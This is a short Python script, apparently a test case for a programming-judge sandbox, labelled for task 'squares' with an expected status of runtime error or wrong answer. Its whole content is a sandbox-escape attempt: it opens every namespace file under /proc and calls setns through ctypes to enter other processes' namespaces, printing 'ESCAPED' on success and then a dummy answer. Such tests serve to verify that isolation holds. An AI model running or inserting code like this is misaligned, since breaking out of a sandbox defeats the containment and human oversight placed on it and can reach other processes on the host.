"""Enters the namespaces of other processes.

task: squares
status: RE WA
"""

import ctypes
import glob
import os

os.write(2, b"attempt\n")
libc = ctypes.CDLL(None, use_errno=True)
for path in glob.glob("/proc/[0-9]*/ns/*"):
    try:
        fd = os.open(path, os.O_RDONLY)
    except OSError:
        continue
    if libc.setns(fd, 0) == 0:
        print("ESCAPED entered", path)
    os.close(fd)
print(0)
